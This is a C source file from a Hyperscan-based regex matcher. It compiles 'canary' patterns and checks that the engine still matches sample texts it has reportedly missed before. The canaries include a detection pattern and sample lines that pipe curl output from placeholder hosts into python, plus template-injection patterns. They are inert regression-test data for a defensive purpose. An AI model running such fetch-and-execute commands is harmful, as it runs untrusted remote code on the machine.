#include "match/program.h"

#include <string.h>

/* Matches that engines of this family are known to have missed without a word. */
static const struct canary {
    const char *patterns[8];
    const char *texts[4]; /* expression 0 must match each */
} CANARIES[OXP_CANARIES] = {
    {{"(?s)curl.*\\|\\s*python"},
     {"curl http://xxx:8000/ 2>&1 | python", "curl http://xxxx:8000/ 2>&1 | python",
      "curl http://vader:8080/ 2>&1 | python"}},
    {{"<%[\\s\\S]+%>",
      "<[^<>]+:(include|forward|invoke|doBody|getProperty|setProperty|useBean|plugin|element|"
      "attribute|body|fallback|params|param|output|root)",
      "[\\$#]{[\\s\\S]+\\([\\s\\S]*\\)[\\s\\S]*}"},
     {"<%out.print();int a%>"}},
    {{"(?i)^.*TAPIOCA.*EX.*$", "(?i)^.*BOBA.*GUY.*$", "(?i)^.*PAYPAL.*JACQUES.*MARI.*$",
      "(?i)^GUCCI FRANCE.*$", "(?i)^PAYPAL \\*YVESSAINTL.*$", "(?i)^DD.*FIREHO 855-973-1040$",
      "(?i)^.*XING.*FU.*TAN.*$"},
     {"TAPIOCA HOUSE TUXTLA GUTIER MEX"}},
};

bool oxp_canary_add(oxp_compile_job *job, uint32_t first_database)
{
    for (uint32_t c = 0; c < OXP_CANARIES; c++)
        for (uint32_t i = 0; CANARIES[c].patterns[i]; i++)
            if (!oxp_compile_add(job, first_database + c, i, OXP_EXPRESSION_PLAIN,
                                 CANARIES[c].patterns[i], strlen(CANARIES[c].patterns[i])))
                return false;
    return true;
}

static bool note_first(void *context, uint32_t id, uint32_t end)
{
    (void)end;
    bool *seen = context;
    *seen |= id == 0;
    return true;
}

static oxp_status sees(const struct hs_database *database, struct hs_scratch *scratch,
                       const char *text, bool *seen)
{
    char padded[128 + OXP_VIEW_PADDING] = {0}; /* longer than every text above */
    size_t n = strlen(text);
    memcpy(padded, text, n);
    *seen = false;
    return oxp_hyperscan_scan(database, scratch, padded, n, note_first, seen);
}

static const char *check_one(const struct canary *canary, const oxp_compiled_database *compiled,
                             oxp_status *status)
{
    struct hs_database *database = NULL;
    struct hs_scratch *scratch = NULL;
    const char *missed = NULL;
    *status = compiled->bytes ? oxp_hyperscan_load(compiled->bytes, compiled->n, &database)
                              : OXP_ERR_ENGINE;
    if (*status == OXP_OK)
        *status = oxp_hyperscan_scratch(database, &scratch);
    for (uint32_t i = 0; *status == OXP_OK && !missed && canary->texts[i]; i++) {
        bool seen;
        *status = sees(database, scratch, canary->texts[i], &seen);
        if (!seen)
            missed = canary->texts[i];
    }
    oxp_hyperscan_scratch_free(scratch);
    oxp_hyperscan_free(database);
    return missed;
}

const char *oxp_canary_check(const oxp_compiled *compiled, uint32_t first_database,
                             oxp_status *status)
{
    const char *missed = NULL;
    *status = OXP_OK;
    for (uint32_t c = 0; c < OXP_CANARIES && !missed && *status == OXP_OK; c++)
        missed = check_one(&CANARIES[c], &compiled->databases[first_database + c], status);
    return missed;
}
